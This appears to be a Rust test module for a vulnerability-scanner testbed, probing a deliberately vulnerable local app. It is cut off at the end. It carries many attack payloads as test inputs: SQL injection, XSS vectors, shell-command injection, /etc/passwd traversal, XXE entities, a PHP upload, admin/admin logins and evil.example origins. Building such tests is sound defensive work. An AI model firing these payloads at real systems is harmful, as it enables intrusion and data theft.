//! One hand-written probe per case: `true` when the vulnerable behaviour shows.

use crate::support::{client, Ctx, Resp};
use rampart_testbed::Case;
use regex::Regex;
use std::time::Duration;

const SLOW: Duration = Duration::from_millis(900);

fn sql_error(r: &Resp) -> bool {
    r.body.contains("SQLite3::query()") || r.body.contains("SQLITE_ERROR")
}

/// Boolean inference: the true condition looks like the original, the false one does not.
async fn boolean(
    ctx: &Ctx,
    c: &reqwest::Client,
    path: &str,
    name: &str,
    orig: &str,
    t: &str,
    f: &str,
) -> bool {
    let get = |v: String| ctx.send(c.get(ctx.url(path)).query(&[(name, v)]));
    let o = get(orig.to_owned()).await.body;
    let tr = get(format!("{orig}{t}")).await.body;
    let fa = get(format!("{orig}{f}")).await.body;
    o == tr && o != fa
}

async fn error_get(ctx: &Ctx, path: &str, name: &str, value: &str) -> bool {
    sql_error(&ctx.get(path, &[(name, value)]).await)
}

async fn sqli(ctx: &Ctx, id: &str) -> bool {
    let num = (" AND 1=1", " AND 1=2");
    let text = ("' AND '1'='1", "' AND '1'='2");
    match id {
        "sqli-error-numeric" | "sqli-safe-numeric" => {
            let p = if id.contains("safe") {
                "/catalog.php"
            } else {
                "/products.php"
            };
            error_get(ctx, p, "id", "1'").await
                || boolean(ctx, &ctx.client, p, "id", "1", num.0, num.1).await
        }
        "sqli-error-string" | "sqli-safe-string" => {
            let (p, v) = if id.contains("safe") {
                ("/find.php", "lamp")
            } else {
                ("/search.php", "tent")
            };
            error_get(ctx, p, "q", &format!("{v}'")).await
                || boolean(ctx, &ctx.client, p, "q", v, text.0, text.1).await
        }
        "sqli-boolean-or" | "sqli-safe-or" => {
            let p = if id.contains("safe") {
                "/voucher.php"
            } else {
                "/giftcard.php"
            };
            // The original code matches nothing: a false OR keeps the page, a true OR not.
            boolean(
                ctx,
                &ctx.client,
                p,
                "code",
                "GIFT-0000",
                "' OR '1'='2",
                "' OR '1'='1",
            )
            .await
        }
        "sqli-boolean-numeric" => {
            !error_get(ctx, "/news.php", "id", "1'").await
                && boolean(ctx, &ctx.client, "/news.php", "id", "1", num.0, num.1).await
        }
        "sqli-boolean-string" => {
            let c = ctx.logged_in().await;
            boolean(
                ctx,
                &c,
                "/account/orders.php",
                "status",
                "shipped",
                text.0,
                text.1,
            )
            .await
        }
        "sqli-time" | "sqli-safe-time" => {
            let p = if id.contains("safe") {
                "/status.php"
            } else {
                "/track.php"
            };
            let base = ctx
                .timed(ctx.client.get(ctx.url(p)).query(&[("code", "AC1001")]))
                .await;
            let slow = ctx
                .timed(
                    ctx.client
                        .get(ctx.url(p))
                        .query(&[("code", "AC1001' AND sleep(1)-- ")]),
                )
                .await;
            base < SLOW && slow >= SLOW
        }
        "sqli-cookie" => {
            let r = ctx
                .send(
                    ctx.client
                        .get(ctx.url("/welcome.php"))
                        .header("cookie", "lang=en'"),
                )
                .await;
            sql_error(&r)
        }
        "sqli-cookie-session" | "sqli-cookie-session-safe" => {
            let p = if id.ends_with("safe") {
                "/rates.php"
            } else {
                "/prices.php"
            };
            let r = ctx
                .send(ctx.client.get(ctx.url(p)).header("cookie", "region=uk'"))
                .await;
            sql_error(&r)
        }
        "sqli-api-path" => sql_error(&ctx.get("/api/v1/products/1'", &[]).await),
        "sqli-api-json" => sql_error(
            &ctx.json(
                "/api/v1/users/search",
                serde_json::json!({ "name": "alice'" }),
            )
            .await,
        ),
        "sqli-safe-api" => {
            let p = "/api/v1/products/search";
            error_get(ctx, p, "name", "tent'").await
                || boolean(ctx, &ctx.client, p, "name", "tent", text.0, text.1).await
        }
        "sqli-api2-json" | "sqli-api2-safe" => {
            let p = if id.contains("safe") {
                "/api/v2/invoices/search"
            } else {
                "/api/v2/orders/search"
            };
            sql_error(
                &ctx.json(p, serde_json::json!({ "customer": "alice'" }))
                    .await,
            )
        }
        "sqli-graphql" | "sqli-graphql-safe" => {
            let (field, arg) = if id.contains("safe") {
                ("catalogItem", "sku")
            } else {
                ("product", "name")
            };
            let q = format!("query q($v: String!) {{ {field}({arg}: $v) {{ id name }} }}");
            let ok = ctx
                .json(
                    "/graphql",
                    serde_json::json!({ "query": q, "variables": { "v": "Tent" } }),
                )
                .await;
            assert!(ok.body.contains("\"data\""), "{}", ok.body);
            sql_error(
                &ctx.json(
                    "/graphql",
                    serde_json::json!({ "query": q, "variables": { "v": "Tent'" } }),
                )
                .await,
            )
        }
        _ => panic!("no probe for {id}"),
    }
}

async fn xss(ctx: &Ctx, id: &str) -> bool {
    let tag = "<b data-x=\"9137\">x</b>";
    let has = |r: Resp, s: &str| r.body.contains(s);
    match id {
        "xss-api2-query" | "xss-api2-safe" => {
            let p = if id.contains("safe") {
                "/api/v2/render"
            } else {
                "/api/v2/preview"
            };
            has(ctx.get(p, &[("title", tag)]).await, tag)
        }
        "xss-page-selected" => has(
            ctx.get("/help.php", &[("topic", "contact"), ("name", tag)])
                .await,
            tag,
        ),
        "xss-safe-page-selected" => has(
            ctx.get("/manual.php", &[("chapter", "contact"), ("name", tag)])
                .await,
            tag,
        ),
        "xss-text" | "xss-safe-text" => {
            let p = if id.contains("safe") {
                "/hello.php"
            } else {
                "/greet.php"
            };
            has(ctx.get(p, &[("name", tag)]).await, tag)
        }
        "xss-attr" | "xss-safe-attr" => {
            let p = if id.contains("safe") {
                "/subscribe.php"
            } else {
                "/newsletter.php"
            };
            has(
                ctx.get(p, &[("email", "x\" onmouseover=\"alert(9137)")])
                    .await,
                "value=\"x\" onmouseover=\"alert(9137)\"",
            )
        }
        "xss-script" | "xss-safe-script" => {
            let p = if id.contains("safe") {
                "/analytics.php"
            } else {
                "/stats.php"
            };
            has(
                ctx.get(p, &[("ref", "x';alert(9137);//")]).await,
                "'x';alert(9137);//'",
            )
        }
        "xss-post" => has(
            ctx.form("/feedback.php", &[("name", "a"), ("message", tag)])
                .await,
            tag,
        ),
        "xss-account" => {
            let c = ctx.logged_in().await;
            has(
                ctx.send(c.get(ctx.url("/account/search.php")).query(&[("q", tag)]))
                    .await,
                tag,
            )
        }
        "xss-js-url"
        | "xss-safe-js-url"
        | "xss-safe-script-src"
        | "xss-js-url-leave"
        | "xss-safe-js-url-stay" => {
            let (p, name) = match id {
                "xss-safe-script-src" => ("/links/embed.php".to_owned(), "cdn"),
                _ => (case_path(id), case_param(id)),
            };
            let r = ctx.get(&p, &[(name, "javascript:alert(9137)")]).await;
            Regex::new(r#"<(a|iframe)\s[^>]*(href|src)="javascript:alert\(9137\)""#)
                .unwrap()
                .is_match(&r.body)
        }
        "xss-js-line-comment" | "xss-safe-js-comment" => has(
            ctx.get(&case_path(id), &[(case_param(id), "x\nalert(9137)//")])
                .await,
            "\nalert(9137)//",
        ),
        "xss-js-block-comment" => has(
            ctx.get("/links/promo.php", &[("code", "*/alert(9137)/*")])
                .await,
            "*/alert(9137)/*",
        ),
        "xss-tag-name" | "xss-safe-tag-name" => has(
            ctx.get(&case_path(id), &[("level", "svg onload=alert(9137) x")])
                .await,
            "<svg onload=alert(9137) x>",
        ),
        "xss-attr-name" => has(
            ctx.get(
                "/links/widget.php",
                &[("flag", "onmouseover=alert(9137) x")],
            )
            .await,
            "class=\"widget\" onmouseover=alert(9137) x>",
        ),
        "xss-quote-only" | "xss-safe-quote-only" => {
            let p = case_path(id);
            let plain = ctx.get(&p, &[("username", "hiker9137")]).await;
            assert!(
                !plain.body.contains("hiker9137"),
                "{id} echoes only special input"
            );
            has(ctx.get(&p, &[("username", tag)]).await, tag)
        }
        "xss-filtered" | "xss-safe-filtered" => {
            let v = "<svg/onload=alert&#40;9137&#41;>";
            has(ctx.get(&case_path(id), &[(case_param(id), v)]).await, v)
        }
        "xss-param-value" | "xss-safe-param-value" => has(
            ctx.get(&case_path(id), &[("clip", &format!("\">{tag}"))])
                .await,
            &format!("clip=\">{tag}"),
        ),
        // The template's content runs only when the page's script stamps it (a browser
        // shows it; the browser crate's tests): the payload is kept raw and stamped.
        "xss-template" | "xss-safe-template" => {
            let v = "<img src=x onerror=alert(9137)>";
            let r = ctx.get(&case_path(id), &[("greeting", v)]).await;
            r.body.contains(&format!("<h2>{v}")) && r.body.contains("data-template=\"stamped\"")
        }
        // Stored in a template: it runs only where the page's script stamps it.
        "xss-stored-template" | "xss-stored-safe-template" => {
            let (p, field, shown) = if id.contains("safe") {
                ("/links/note.php", "note", "/links/board.php")
            } else {
                ("/links/wish.php", "wish", "/links/wall.php")
            };
            let v = format!("<img src=x onerror=alert({})>", ctx.token());
            let thanks = ctx.form(p, &[(field, &v)]).await;
            assert!(!thanks.body.contains(&v), "{id}: shown on another page");
            let r = ctx.get(shown, &[]).await;
            r.body.contains(&format!("\">{v}")) && r.body.contains("data-template=\"stamped\"")
        }
        "xss-sniffed" | "xss-safe-sniffed" => {
            let r = ctx.get(&case_path(id), &[("msg", tag)]).await;
            r.header("content-type").is_none() && r.body == tag
        }
        "xss-stored-guestbook" | "xss-stored-safe" => {
            let (p, field) = if id.contains("safe") {
                ("/reviews.php", "text")
            } else {
                ("/guestbook.php", "message")
            };
            let t = format!("<i data-s=\"{}\">s</i>", ctx.token());
            ctx.form(p, &[("name", "a"), (field, &t)]).await;
            has(ctx.get(p, &[]).await, &t)
        }
        "xss-stored-header" | "xss-stored-header-safe" => {
            let (p, shown) = if id.contains("safe") {
                ("/event.php", "/event/visitors.php")
            } else {
                ("/promo.php", "/promo/visitors.php")
            };
            let t = format!("<i data-s=\"{}\">s</i>", ctx.token());
            let visit = ctx
                .send(ctx.client.get(ctx.url(p)).header("User-Agent", &t))
                .await;
            assert!(
                !visit.body.contains(&t),
                "{id}: the visited page does not echo it"
            );
            has(ctx.get(shown, &[]).await, &t)
        }
        _ => panic!("no probe for {id}"),
    }
}

/// Access control: signed in as the second user, alice's note 1 opens at the case's path.
async fn access_control(ctx: &Ctx, id: &str) -> bool {
    let li = rampart_testbed::login_info();
    let r = ctx
        .send(client(false).post(ctx.url("/login")).form(&[
            ("username", li.second_username.as_str()),
            ("password", li.second_password.as_str()),
        ]))
        .await;
    let cookie = r.set_cookies()[0].split(';').next().unwrap().to_string();
    let get = |q: &str| {
        ctx.send(
            ctx.client
                .get(ctx.url(&format!("{}?id={q}", case_path(id))))
                .header("Cookie", cookie.clone()),
        )
    };
    let own = get("3").await;
    assert!(
        own.body.contains("Gift ideas"),
        "{id}: the second user reads their own note"
    );
    get("1").await.body.contains("Packing list")
}

/// Default credentials: `admin` / `admin` signs in (a redirect into the back office).
async fn weak_credentials(ctx: &Ctx, id: &str) -> bool {
    let r = ctx
        .form(
            &case_path(id),
            &[("username", "admin"), ("password", "admin")],
        )
        .await;
    (300..400).contains(&r.status)
        && r.header("set-cookie").is_some()
        && r.header("location").as_deref() == Some("/staff/")
}

async fn inject(ctx: &Ctx, id: &str) -> bool {
    match id {
        "cmdi-output" | "cmdi-safe" => {
            let (p, name, v) = if id == "cmdi-safe" {
                ("/tools/whois.php", "domain", "example.com")
            } else {
                ("/tools/ping.php", "host", "127.0.0.1")
            };
            let out = ctx
                .get(p, &[(name, &format!("{v};echo CMDI''9137"))])
                .await
                .body
                .contains("CMDI9137");
            let sub = ctx
                .get(p, &[(name, &format!("{v}$(echo CMDI''9138)"))])
                .await
                .body
                .contains("CMDI9138");
            let slow = ctx
                .timed(
                    ctx.client
                        .get(ctx.url(p))
                        .query(&[(name, format!("{v}|sleep 1"))]),
                )
                .await
                >= SLOW;
            out || sub || slow
        }
        "cmdi-blind" => {
            let slow = ctx
                .timed(
                    ctx.client
                        .post(ctx.url("/tools/lookup.php"))
                        .form(&[("host", "localhost;sleep 1")]),
                )
                .await;
            let fast = ctx
                .timed(
                    ctx.client
                        .post(ctx.url("/tools/lookup.php"))
                        .form(&[("host", "localhost")]),
                )
                .await;
            slow >= SLOW && fast < SLOW
        }
        "cmdi-exec-command" | "cmdi-exec-safe" => {
            let p = case_path(id);
            ctx.get(&p, &[("task", "expr 1200 + 37")])
                .await
                .body
                .contains("1237")
        }
        "cmdi-exec-windows" => ctx
            .get("/ops/winrun.aspx", &[("cmd", "cmd /c set /a 1200*3")])
            .await
            .body
            .contains("3600"),
        "cmdi-exec-arg" | "cmdi-exec-arg-safe" => {
            let p = case_path(id);
            let slow = ctx
                .timed(
                    ctx.client
                        .get(ctx.url(&p))
                        .query(&[("host", "127.0.0.1 -c 2")]),
                )
                .await;
            let fast = ctx
                .timed(ctx.client.get(ctx.url(&p)).query(&[("host", "127.0.0.1")]))
                .await;
            slow >= SLOW && fast < SLOW
        }
        "ssti-preview" | "ssti-safe" => {
            let (p, name) = if id == "ssti-safe" {
                ("/card.php", "name")
            } else {
                ("/preview.php", "title")
            };
            ssti_any(ctx, p, name).await
        }
        "ssti-invite" => {
            let r = ctx
                .form(
                    "/invite.php",
                    &[("to", "a@b.c"), ("message", "Hi {{1337*7331}}")],
                )
                .await;
            r.body.contains("9801547") && !r.body.contains("1337*7331")
        }
        "code-php-eval" | "code-safe" => {
            let (p, name) = if id == "code-safe" {
                ("/convert.php", "amount")
            } else {
                ("/calc.php", "expr")
            };
            ctx.get(p, &[(name, "1;echo 'CODE'.'9137';")])
                .await
                .body
                .contains("CODE9137")
        }
        "code-node-eval" => {
            let r = ctx
                .json(
                    "/api/v1/calc",
                    serde_json::json!({ "expression": "'CODE'+'9137'" }),
                )
                .await;
            r.body.contains("CODE9137")
        }
        _ => panic!("no probe for {id}"),
    }
}

async fn ssti_any(ctx: &Ctx, p: &str, name: &str) -> bool {
    for payload in ["{{1337*7331}}", "${1337*7331}", "<%= 1337*7331 %>"] {
        let r = ctx.get(p, &[(name, payload)]).await;
        if r.body.contains("9801547") {
            return true;
        }
    }
    false
}

async fn files(ctx: &Ctx, id: &str) -> bool {
    let passwd = |r: Resp| r.body.contains("root:x:0:0:");
    match id {
        "pt-page" => passwd(
            ctx.get("/page.php", &[("file", "../../../../../etc/passwd")])
                .await,
        ),
        "pt-download" => ctx
            .get(
                "/download.php",
                &[("file", "..\\..\\..\\..\\windows\\win.ini")],
            )
            .await
            .body
            .contains("[fonts]"),
        "pt-safe" => {
            passwd(
                ctx.get("/view.php", &[("doc", "../../../../../etc/passwd")])
                    .await,
            ) || passwd(ctx.get("/view.php", &[("doc", "/etc/passwd")]).await)
        }
        "pt-webinf" | "pt-safe-webinf" => ctx
            .get(&case_path(id), &[("page", "../WEB-INF/web.xml")])
            .await
            .body
            .contains("&lt;web-app"),
        "pt-dotenv" | "pt-safe-template" => {
            let p = case_path(id);
            let passwd_refused = !passwd(ctx.get(&p, &[("tpl", "../../../../etc/passwd")]).await);
            assert!(passwd_refused, "{id}: system files stay out of reach");
            ctx.get(&p, &[("tpl", "../.env")])
                .await
                .body
                .contains("DB_PASSWORD=")
        }
        "pt-double-decode" => passwd(
            ctx.get(
                "/library/asset.php",
                &[("f", "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd")],
            )
            .await,
        ),
        "rfi-scheme-variants" | "rfi-safe-scheme" => {
            let t = ctx.token();
            let p = case_path(id);
            let plain = ctx
                .get(&p, &[("src", &format!("{}/rfi-{t}.txt", ctx.oob.base))])
                .await;
            assert!(
                !plain.body.contains("RFIOK9137"),
                "{id}: http:// is refused"
            );
            let schemeless = ctx.oob.base.replacen("http:", "", 1);
            let r = ctx
                .get(&p, &[("src", &format!("{schemeless}/rfi-{t}.txt"))])
                .await;
            ctx.oob.hit(&t) && r.body.contains("RFIOK9137")
        }
        "rfi-include" | "rfi-safe" => {
            let t = ctx.token();
            let (p, name) = if id == "rfi-safe" {
                ("/theme.php", "skin")
            } else {
                ("/portal.php", "page")
            };
            let r = ctx
                .get(p, &[(name, &format!("{}/rfi-{t}.txt", ctx.oob.base))])
                .await;
            ctx.oob.hit(&t) && r.body.contains("RFIOK9137")
        }
        "sf-git" | "sf-safe-git" => ctx
            .get(&case_path(id), &[])
            .await
            .body
            .starts_with("ref: refs/"),
        "sf-copy" | "sf-numbered" | "sf-safe-copy" => {
            let r = ctx.get(&case_path(id), &[]).await;
            r.status == 200 && r.body.contains("<?php")
        }
        "sf-archive" | "sf-safe-archive" => {
            let r = ctx.get(&case_path(id), &[]).await;
            r.status == 200 && r.body.starts_with("PK\u{3}\u{4}")
        }
        "sf-backup-sql" => ctx
            .get("/backup.sql", &[])
            .await
            .body
            .contains("CREATE TABLE"),
        "sf-bak" => ctx.get("/index.php.bak", &[]).await.body.contains("<?php"),
        "sf-env" | "sf-safe-env" => ctx
            .get(&case_path(id), &[])
            .await
            .body
            .contains("DB_PASSWORD="),
        "dirlist-apache" | "dirlist-safe" => {
            let r = ctx.get(&case_path(id), &[]).await;
            r.body.contains("<title>Index of /") && r.body.contains("Parent Directory")
        }
        "upload-any" | "upload-safe" => {
            let (p, field, dir) = if id == "upload-safe" {
                ("/profile/photo.php", "photo", "photos")
            } else {
                ("/upload.php", "file", "uploads")
            };
            let name = format!("shell{}.php", ctx.token());
            let part = reqwest::multipart::Part::bytes(b"<?php echo 'UP'.'9137'; ?>".to_vec())
                .file_name(name.clone());
            let r = ctx
                .send(
                    ctx.client
                        .post(ctx.url(p))
                        .multipart(reqwest::multipart::Form::new().part(field, part)),
                )
                .await;
            let linked = Regex::new(&format!(r#"href="(/{dir}/[^"]+)""#)).unwrap();
            let url = linked
                .captures(&r.body)
                .map(|c| c[1].to_owned())
                .unwrap_or(format!("/{dir}/{name}"));
            let served = ctx.get(&url, &[]).await;
            served.status == 200 && served.body.contains("UP9137") && !served.body.contains("'UP'")
        }
        "upload-prose" | "upload-prose-safe" => {
            let name = format!("shell{}.php", ctx.token());
            let part = reqwest::multipart::Part::bytes(b"<?php echo 'UP'.'9137'; ?>".to_vec())
                .file_name(name.clone());
            let r = ctx
                .send(
                    ctx.client
                        .post(ctx.url(&case_path(id)))
                        .multipart(reqwest::multipart::Form::new().part("attachment", part)),
                )
                .await;
            // The answer names the file in prose, relative to the form.
            let said = Regex::new(&format!(
                r"(\.\./\.\./storage/[a-z]+/{}) succesfully",
                regex::escape(&name)
            ))
            .unwrap();
            let Some(rel) = said.captures(&r.body).map(|c| c[1].to_owned()) else {
                return false;
            };
            let served = ctx.get(&rel.replacen("../../", "/", 1), &[]).await;
            served.status == 200 && served.body.contains("UP9137") && !served.body.contains("'UP'")
        }
        _ => panic!("no probe for {id}"),
    }
}

fn case_param(id: &str) -> &'static str {
    let p = rampart_testbed::manifest()
        .into_iter()
        .find(|c| c.id == id)
        .and_then(|c| c.parameter)
        .unwrap();
    Box::leak(p.into_boxed_str())
}

fn case_path(id: &str) -> String {
    rampart_testbed::manifest()
        .into_iter()
        .find(|c| c.id == id)
        .map(|c| c.path)
        .unwrap()
}

async fn oob(ctx: &Ctx, id: &str) -> bool {
    let t = ctx.token();
    let cb = format!("{}/cb-{t}", ctx.oob.base);
    match id {
        "ssrf-fetch" => {
            ctx.get("/fetch.php", &[("url", &cb)]).await;
            ctx.oob.hit(&t)
        }
        "ssrf-safe" => {
            ctx.get("/image-proxy.php", &[("src", &cb)]).await;
            ctx.oob.hit(&t)
        }
        "ssrf-webhook" => {
            let r = ctx
                .json(
                    "/api/v1/webhooks",
                    serde_json::json!({ "callback_url": cb }),
                )
                .await;
            r.status == 202 && ctx.oob.wait(&t, Duration::from_secs(5)).await
        }
        "xxe-script" | "xxe-json-xml" | "xxe-safe-json" => {
            let file = r#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]><r><t>&e;</t></r>"#;
            let r = ctx
                .send(
                    ctx.client
                        .post(ctx.url(&case_path(id)))
                        .header("content-type", "application/xml")
                        .body(file),
                )
                .await;
            r.body.contains("root:x:0:0:")
        }
        "xxe-import" | "xxe-safe" => {
            let p = if id == "xxe-safe" {
                "/catalog/import.php"
            } else {
                "/import.php"
            };
            let file = r#"<?xml version="1.0"?><!DOCTYPE p [<!ENTITY e SYSTEM "file:///etc/passwd">]><product><name>&e;</name></product>"#;
            let local = ctx
                .form(p, &[("xml", file)])
                .await
                .body
                .contains("root:x:0:0:");
            let remote = format!(
                r#"<?xml version="1.0"?><!DOCTYPE p [<!ENTITY % r SYSTEM "{cb}"> %r;]><product><name>x</name></product>"#
            );
            let r = ctx
                .send(
                    ctx.client
                        .post(ctx.url(p))
                        .header("content-type", "application/xml")
                        .body(remote),
                )
                .await;
            assert_eq!(r.status, 200);
            local || ctx.oob.hit(&t)
        }
        _ => panic!("no probe for {id}"),
    }
}

async fn web(ctx: &Ctx, id: &str) -> bool {
    let evil = "http://evil.example/";
    match id {
        "redir-location" | "redir-safe" => {
            let (p, name) = if id == "redir-safe" {
                ("/return.php", "returnTo")
            } else {
                ("/redirect.php", "url")
            };
            let a = ctx
                .get(p, &[(name, evil)])
                .await
                .header("location")
                .as_deref()
                == Some(evil);
            let b = ctx
                .get(p, &[(name, "//evil.example/")])
                .await
                .header("location")
                .as_deref()
                == Some("//evil.example/");
            a || b
        }
        "redir-meta" => ctx
            .get("/goto.php", &[("next", evil)])
            .await
            .body
            .contains("content=\"0; url=http://evil.example/\""),
        "redir-js" => ctx
            .get("/out.php", &[("to", evil)])
            .await
            .body
            .contains("window.location.href = \"http://evil.example/\""),
        "redir-meta-bare" | "redir-meta-bare-safe" => {
            let p = if id.ends_with("safe") {
                "/stay.php"
            } else {
                "/leave.php"
            };
            ctx.get(p, &[("dest", evil)])
                .await
                .body
                .contains("content=\"0; http://evil.example/\"")
        }
        // The target is in the page, but only inside a function nothing calls.
        "redir-js-uncalled" => {
            let body = ctx.get("/exit.php", &[("to", evil)]).await.body;
            assert!(
                body.contains("function legacyExit()"),
                "{id} serves its dead function"
            );
            body.matches("legacyExit").count() > 1
        }
        "crlf-encoded" | "crlf-encoded-safe" => {
            let p = case_path(id);
            let r = ctx
                .get(&p, &[("filename", "a.csv%0d%0aX-Injected:%20crlf9137")])
                .await;
            r.header("x-injected")
                .is_some_and(|v| v.starts_with("crlf9137"))
        }
        "crlf-cookie" | "crlf-safe" => {
            let (p, name) = if id == "crlf-safe" {
                ("/settheme.php", "theme")
            } else {
                ("/setlang.php", "lang")
            };
            let r = ctx.get(p, &[(name, "en\r\nX-Injected: crlf9137")]).await;
            r.header("x-injected")
                .is_some_and(|v| v.starts_with("crlf9137"))
        }
        "cors-preflight" | "cors-preflight-safe" => {
            let p = case_path(id);
            let r = ctx
                .send(
                    ctx.client
                        .request(reqwest::Method::OPTIONS, ctx.url(&p))
                        .header("origin", "http://evil.example")
                        .header("access-control-request-method", "PUT"),
                )
                .await;
            r.header("access-control-allow-origin").as_deref() == Some("http://evil.example")
                && r.header("access-control-allow-credentials").as_deref() == Some("true")
        }
        "cors-reflect" | "cors-safe" => {
            let p = case_path(id);
            let r = ctx
                .send(
                    ctx.client
                        .get(ctx.url(&p))
                        .header("origin", "http://evil.example"),
                )
                .await;
            let n = ctx
                .send(ctx.client.get(ctx.url(&p)).header("origin", "null"))
                .await;
            let creds =
                |r: &Resp| r.header("access-control-allow-credentials").as_deref() == Some("true");
            (r.header("access-control-allow-origin").as_deref() == Some("http://evil.example")
                && creds(&r))
                || (n.header("access-control-allow-origin").as_deref() == Some("null") && creds(&n))
        }
        "trace-echo" | "trace-safe" => {
            let m = reqwest::Method::from_bytes(b"TRACE").unwrap();
            let r = ctx
                .send(
                    ctx.client
                        .request(m, ctx.url(&case_path(id)))
                        .header("x-probe", "trace9137"),
                )
                .await;
            r.status == 200 && r.body.contains("x-probe: trace9137")
        }
        "put-dav" | "put-safe" => {
            let t = ctx.token();
            let url = if id == "put-safe" {
                ctx.url("/static/app.js")
            } else {
                ctx.url(&format!("/dav/probe-{t}.txt"))
            };
            let put = ctx
                .send(ctx.client.put(&url).body(format!("PUT9137{t}")))
                .await;
            let back = ctx.get(url.trim_start_matches(&ctx.base), &[]).await;
            (200..300).contains(&put.status) && back.body.contains(&format!("PUT9137{t}"))
        }
        "csrf-profile" | "csrf-safe" => {
            let c = ctx.logged_in().await;
            let (p, field) = if id == "csrf-safe" {
                ("/account/email.php", "email")
            } else {
                ("/account/profile.php", "display_name")
            };
            let form = ctx.send(c.get(ctx.url(p))).await;
            let r = ctx
                .send(c.post(ctx.url(p)).form(&[(field, "x@evil.example")]))
                .await;
            !form.body.contains("type=\"hidden\"") && r.status == 200
        }
        "csrf-token-unchecked" => {
            let c = ctx.logged_in().await;
            let form = ctx.send(c.get(ctx.url("/account/address.php"))).await;
            assert!(
                form.body.contains("name=\"csrf_token\""),
                "{id} has a token field"
            );
            let r = ctx
                .send(c.post(ctx.url("/account/address.php")).form(&[
                    ("csrf_token", "0000000000000000"),
                    ("street", "1 Evil Street"),
                ]))
                .await;
            r.status == 200 && r.body.contains("Address saved")
        }
        // GET forms: the change shows on the list page afterwards (a forged token for the
        // gift list, whose token is checked; the timetable changes nothing).
        "csrf-get" | "csrf-get-token-safe" | "csrf-get-readonly" => {
            let t = format!("item{}", ctx.token());
            let (page, action, q): (&str, &str, Vec<(&str, &str)>) = match id {
                "csrf-get" => ("/wishlist.php", "/wishlist/add.php", vec![("item", &t)]),
                "csrf-get-token-safe" => (
                    "/giftlist.php",
                    "/giftlist/add.php",
                    vec![("gift", &t), ("token", "0000000000000000")],
                ),
                _ => (
                    "/timetable.php",
                    "/timetable.php",
                    vec![("from", &t), ("to", "Summit")],
                ),
            };
            ctx.get(page, &[]).await;
            let r = ctx.get(action, &q).await;
            r.status == 200 && ctx.get(page, &[]).await.body.contains(&t)
        }
        "csrf-prefs" => {
            let form = ctx.get("/preferences.php", &[]).await;
            let r = ctx.form("/preferences.php", &[("currency", "EUR")]).await;
            !form.body.contains("type=\"hidden\"")
                && r.status == 200
                && r.body.contains("Preferences saved")
        }
        _ => panic!("no probe for {id}"),
    }
}

fn on(ctx: &Ctx, c: &Case) -> String {
    if c.tls {
        format!("{}{}", ctx.https, c.path)
    } else {
        ctx.url(&c.path)
    }
}

async fn passive(ctx: &Ctx, c: &Case) -> bool {
    let r = ctx.send(ctx.client.get(on(ctx, c))).await;
    let h = |n: &str| r.header(n);
    let private_ip = Regex::new(r"\b(10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3})\b").unwrap();
    let password_input = Regex::new(r#"<input type="password"[^>]*>"#).unwrap();
    match c.module_key.as_str() {
        "csp" => {
            h("content-security-policy").is_none_or(|v| v.contains("unsafe-") || v.contains(" * "))
        }
        "x_frame_options" => {
            h("x-frame-options").is_none()
                && !h("content-security-policy").is_some_and(|v| v.contains("frame-ancestors"))
        }
        "x_content_type_options" => h("x-content-type-options").as_deref() != Some("nosniff"),
        "hsts" => h("strict-transport-security").is_none(),
        "referrer_policy" => h("referrer-policy").is_none_or(|v| v == "unsafe-url"),
        "version_disclosure" => {
            h("x-powered-by").is_some() || h("server").is_some_and(|s| s.contains('/'))
        }
        "error_disclosure" => {
            Regex::new(r"\([\w$]+\.java:\d+\)")
                .unwrap()
                .is_match(&r.body)
                || ["error in your SQL syntax", "<b>Warning</b>"]
                    .iter()
                    .any(|s| r.body.contains(s))
        }
        "private_ip_disclosure" => private_ip.is_match(&r.body),
        "secrets_exposure" => ["Xk9!vR2#pLq", "AKIA2E0A8F3B244C9986"]
            .iter()
            .any(|s| r.body.contains(s)),
        "password_over_http" => {
            let plain = ctx.send(ctx.client.get(ctx.url(&c.path))).await;
            (password_input.is_match(&r.body) && on(ctx, c).starts_with("http:"))
                || password_input.is_match(&plain.body)
        }
        "password_in_get" => {
            Regex::new(r#"(?s)<form method="get"[^>]*>((?:[^<]|<[^/]|</[^f])*)type="password""#)
                .unwrap()
                .is_match(&r.body)
        }
        "password_autocomplete" => password_input
            .find_iter(&r.body)
            .any(|m| !m.as_str().contains("autocomplete=\"off\"")),
        "mixed_content" => r.body.contains("src=\"http://"),
        "cookie_flags" => {
            let cookies = if c.method == "POST" {
                login_cookies(ctx).await
            } else {
                r.set_cookies()
            };
            assert!(!cookies.is_empty(), "{} sets a cookie", c.id);
            cookies
                .iter()
                .any(|k| !k.contains("HttpOnly") || !k.contains("SameSite"))
        }
        "predictable_session_id" => {
            let (path, name) = if c.id == "session-random" {
                ("/secure/login", "SECURESESSID")
            } else {
                ("/login", "PHPSESSID")
            };
            let mut ids = Vec::new();
            for _ in 0..3 {
                let r = ctx
                    .form(path, &[("username", "alice"), ("password", "wonderland")])
                    .await;
                let v = r.set_cookies().into_iter().find_map(|k| {
                    k.strip_prefix(&format!("{name}="))
                        .map(|v| v.split(';').next().unwrap_or("").to_owned())
                });
                ids.push(u128::from_str_radix(&v.unwrap(), 16).unwrap_or(0));
            }
            ids.windows(2).all(|w| w[1].wrapping_sub(w[0]) == 1)
        }
        k => panic!("no passive probe for {k}"),
    }
}

async fn login_cookies(ctx: &Ctx) -> Vec<String> {
    let r = ctx
        .send(
            client(false)
                .post(ctx.url("/login"))
                .form(&[("username", "alice"), ("password", "wonderland")]),
        )
        .await;
    r.set_cookies()
}

/// Whether the vulnerable behaviour of `c` shows right now.
pub async fn probe(ctx: &Ctx, c: &Case) -> bool {
    let id = c.id.as_str();
    match c.module_key.as_str() {
        "sqli" => sqli(ctx, id).await,
        "xss_reflected" | "xss_stored" => xss(ctx, id).await,
        "cmdi" | "ssti" | "code_injection" => inject(ctx, id).await,
        "path_traversal"
        | "remote_file_inclusion"
        | "sensitive_files"
        | "directory_listing"
        | "file_upload" => files(ctx, id).await,
        "ssrf" | "xxe" => oob(ctx, id).await,
        "open_redirect" | "crlf_injection" | "cors" | "http_methods" | "csrf" => web(ctx, id).await,
        "xss_dom" => dom(ctx, c).await,
        "weak_credentials" => weak_credentials(ctx, id).await,
        "access_control" => access_control(ctx, id).await,
        _ if c.needs_browser => client_side(ctx, c).await,
        _ => passive(ctx, c).await,
